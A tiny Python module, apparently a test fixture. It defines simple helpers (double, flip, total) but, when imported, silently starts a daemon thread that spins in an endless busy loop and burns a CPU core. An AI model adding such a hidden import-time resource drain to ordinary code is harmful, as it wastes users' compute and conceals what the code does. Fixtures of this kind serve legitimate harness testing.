import threading


def burn():
    while True:
        pass


threading.Thread(target=burn, daemon=True).start()


def double(x):
    return 2 * x


def flip(values):
    return values[::-1]


def total(values):
    return float(values.sum())
